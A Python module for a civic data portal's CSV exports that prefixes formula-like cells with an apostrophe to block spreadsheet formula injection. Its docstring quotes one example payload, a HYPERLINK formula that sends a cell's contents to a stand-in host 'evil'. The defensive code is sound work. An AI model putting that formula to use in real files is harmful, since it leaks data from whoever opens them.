"""The one CSV writer for every download that carries text citizens wrote (the gateway's
open-data export, the portal's): cells a spreadsheet would run as a formula are neutralised.

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one), so a complaint reading
`=HYPERLINK("http://evil/?"&A1, "klik")` would run on the machine of whoever opens the
download. Such cells get a leading apostrophe (OWASP "CSV injection"): shown as text, the
content unchanged after it. Numbers are written as numbers: a negative latitude is not a
formula and must stay a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> str:
    """The text of one cell: empty for None, numbers as they are, text that a spreadsheet
    would evaluate prefixed with an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, str):
        return str(value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header row with `columns`, then one row per mapping (missing keys are empty),
    CRLF line ends as RFC 4180 says, every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([safe_cell(row.get(c)) for c in columns])
    return out.getvalue()
